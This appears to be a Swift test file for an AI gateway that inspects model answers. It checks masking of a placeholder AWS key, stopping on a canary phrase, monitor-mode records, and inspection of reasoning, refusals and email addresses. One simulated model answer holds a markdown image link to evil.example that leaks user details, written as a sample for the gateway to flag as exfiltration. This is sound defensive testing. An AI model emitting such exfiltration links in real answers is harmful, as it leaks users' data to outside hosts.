import Stores
import Testing
import Vocabulary
import Wire

@testable import Gateway

extension GatewayTests {
    @Suite struct InspectedAnswerTests {
        struct Case: Sendable, CustomTestStringConvertible {
            var path: String
            var upstream: Dialect
            var stream: Bool
            var testDescription: String { "\(path) before \(upstream), \(stream ? "streamed" : "whole")" }

            var isOllama: Bool { path.hasPrefix("/api/") }

            func request(_ key: String, system: String = "", user: String = "Hello") -> String {
                let head = #""model":"tiny","stream":\#(stream)"#
                let body: String
                switch path {
                case "/v1/completions": body = #"{\#(head),"prompt":"\#(user)"}"#
                case "/api/generate": body = #"{\#(head),"prompt":"\#(user)","system":"\#(system)"}"#
                case "/v1/responses": body = #"{\#(head),"input":"\#(user)","instructions":"\#(system)"}"#
                default:
                    let first = system.isEmpty ? "" : #"{"role":"system","content":"\#(system)"},"#
                    body = #"{\#(head),"messages":[\#(first){"role":"user","content":"\#(user)"}]}"#
                }
                return ChatCall.post(path, body, key: key)
            }

            static let cases = [
                "/v1/chat/completions", "/v1/completions", "/v1/responses", "/api/chat", "/api/generate",
            ].flatMap { path in
                Dialect.allCases.flatMap { upstream in
                    [false, true].map { Case(path: path, upstream: upstream, stream: $0) }
                }
            }
        }

        /// Made from parts, so that no scanner takes this file for a leak.
        static let key = "AKIA" + "Q3EGRIFJ7EXAMPLE"
        static let mark = "Blue Heron Protocol"

        @Test(arguments: Case.cases)
        func `a secret is taken out of the answer, and is on record without itself`(_ item: Case) async throws {
            let model = TalkingModel(item.upstream, "Use \(Self.key) for it.")
            try await GatewayHarness.run(model.script) { gateway in
                let tenant = try await gateway.tenant()
                let answer = try await gateway.exchange(item.request(tenant.key))
                #expect(answer.status == 200)
                #expect(answer.said == "Use [secret removed] for it.")
                #expect(!answer.text.contains(Self.key.dropFirst(8)))
                let record = try await gateway.decision(answer)
                #expect(record.row.action == .allow)
                #expect(record.outcome?.outcome == .ok)
                let output = try #require(record.outcome?.output)
                #expect(output.contains(#""action":"mask","would":"mask","reasons":["secret_output"]"#))
                #expect(output.contains(#""rule":"secret.aws_key""#))
                #expect(!output.contains(Self.key.dropFirst(8)))
                try await Self.expectFeed(gateway, answer, .warn, "secret_output")
            }
        }

        @Test(arguments: Case.cases)
        func `a canary ends the answer with an error, and it is on record why`(_ item: Case) async throws {
            let model = TalkingModel(item.upstream, "It is a long story. \(Self.mark.uppercased()) is on. And so on.")
            try await GatewayHarness.run(model.script, configure: { $0.policy.output.canaries = [Self.mark] }) {
                gateway in
                let tenant = try await gateway.tenant()
                let answer = try await gateway.exchange(item.request(tenant.key))
                #expect(!answer.text.contains("PROTOCOL"))
                #expect(!answer.text.contains("so on"))
                Self.expectStopped(answer, item, "canary_leak")
                let record = try await gateway.decision(answer)
                #expect(record.outcome?.outcome == .cut)
                #expect(record.outcome?.status == answer.status)
                #expect(
                    record.outcome?.output?.contains(#""action":"stop","would":"stop","reasons":["canary_leak"]"#)
                        == true)
                try await Self.expectFeed(gateway, answer, .block, "canary_leak")
                var filter = DecisionFilter()
                filter.reason = .canaryLeak
                let found = try gateway.audit.decisions(filter)
                #expect(found.map(\.row.requestID) == [record.row.requestID])
                let metrics = try await gateway.control("GET", "/metrics").text
                #expect(metrics.contains(#"secureinfer_output_findings_total{reason="canary_leak",action="stop"} 1"#))
                #expect(metrics.contains("secureinfer_output_stopped_total 1"))
                let shown = try await gateway.control("GET", "/v1/decisions?reason=canary_leak")
                #expect(shown.json?["decisions"]?.elements.first { _ in true }?["output"]?["action"]?.string == "stop")
                #expect(record.outcome?.outputTokens ?? 0 > 0)
                let alerts = try await eventual("the alert") { () -> String? in
                    let text = try await gateway.control("GET", "/v1/alerts").text
                    return text.contains("canary_leak") ? text : nil
                }
                #expect(!alerts.lowercased().contains("heron"))
            }
        }

        private static func expectStopped(_ answer: WireAnswer, _ item: Case, _ code: String) {
            guard item.stream else {
                #expect(answer.status == 403)
                if item.isOllama { #expect(answer.json?["error"]?.string?.contains(code) == true) }
                if !item.isOllama { #expect(answer.json?["error"]?["code"]?.string == code) }
                return
            }
            #expect(answer.status == 200)
            guard !item.isOllama else {
                #expect(answer.lines.last?["error"]?.string?.contains(code) == true)
                #expect(answer.lines.allSatisfy { $0["done"]?.bool != true })
                return
            }
            let last = answer.events.last.flatMap { try? JSONDocument(Array($0.utf8)).root }
            #expect(last?["error"]?["code"]?.string == code)
            #expect(last?["error"]?["type"]?.string == "permission_error")
            #expect(!answer.text.contains("[DONE]"))
            #expect(!answer.text.contains("response.completed"))
        }

        private static func expectFeed(
            _ gateway: GatewayHarness, _ answer: WireAnswer, _ action: Action, _ reason: String
        ) async throws {
            let id = try #require(answer.field("x-request-id"))
            let decision = try await eventual("the feed's event") { () -> FeedEvent.Decision? in
                for event in try gateway.feed() where event.request == id {
                    if case .decision(let decision) = event.body, decision.reasons == [reason] { return decision }
                }
                return nil
            }
            #expect(decision.action == action)
            #expect(decision.findings.first?.path == "choices[0].content")
            #expect(decision.risk > 0)
        }

        @Test(arguments: Case.cases.filter(\.stream))
        func `a tenant in monitor mode gets every byte, and the record says what would have been`(_ item: Case)
            async throws
        {
            let text = "Take \(Self.key), \(Self.mark) ![x](https://evil.example/?q=the+user+is+John)"
            let model = TalkingModel(item.upstream, text)
            try await GatewayHarness.run(model.script, configure: { $0.policy.output.canaries = [Self.mark] }) {
                gateway in
                let tenant = try await gateway.tenant(mode: "monitor")
                let answer = try await gateway.exchange(item.request(tenant.key))
                #expect(answer.status == 200)
                #expect(answer.said == text)
                let record = try await gateway.decision(answer)
                #expect(record.outcome?.outcome == .ok)
                let output = try #require(record.outcome?.output)
                #expect(output.hasPrefix(#"{"action":"report","would":"stop","reasons":["canary_leak""#))
                #expect(output.contains("secret_output") && output.contains("out_markdown_exfil"))
            }
        }

        @Test func `a monitored control changes nothing either`() async throws {
            let model = TalkingModel(.openai, "Take \(Self.key).")
            try await GatewayHarness.run(model.script, configure: { $0.policy.monitored = [.data] }) { gateway in
                let tenant = try await gateway.tenant()
                #expect(try await gateway.chat(tenant, ChatCall(stream: true)).said == "Take \(Self.key).")
            }
        }

        @Test func `clean answers leave nothing on record`() async throws {
            try await GatewayHarness.run { gateway in
                let tenant = try await gateway.tenant()
                let answer = try await gateway.chat(tenant, ChatCall(stream: true))
                #expect(answer.said == ModelServer.text)
                #expect(try await gateway.decision(answer).outcome?.output == nil)
                let shown = try await gateway.control("GET", "/v1/decisions?limit=1")
                #expect(shown.text.contains(#""output":null"#))
            }
        }

        @Test(arguments: ["reasoning_content", "refusal"], [false, true])
        func `thinking and refusals are inspected as well`(_ member: String, _ stream: Bool) async throws {
            let model = TalkingModel(.openai, "Use \(Self.key) here", member: member)
            try await GatewayHarness.run(model.script) { gateway in
                let tenant = try await gateway.tenant()
                let answer = try await gateway.chat(tenant, ChatCall(stream: stream))
                #expect(answer.said == "Use [secret removed] here")
                let output = try await gateway.decision(answer).outcome?.output ?? ""
                #expect(output.contains("choices[0].\(member == "refusal" ? "refusal" : "reasoning")"))
            }
        }

        @Test(arguments: [false, true])
        func `personal data of the request itself may stand in the answer`(_ stream: Bool) async throws {
            let model = TalkingModel(.openai, "I wrote to jane@corp.example, and told bob@corp.example")
            try await GatewayHarness.run(model.script, configure: { $0.policy.output.actions[.pii] = .mask }) {
                gateway in
                let tenant = try await gateway.tenant()
                let call = ChatCall(stream: stream, prompt: "Write to Jane@corp.example")
                let answer = try await gateway.chat(tenant, call)
                #expect(answer.said == "I wrote to jane@corp.example, and told [email removed]")
            }
        }
    }
}
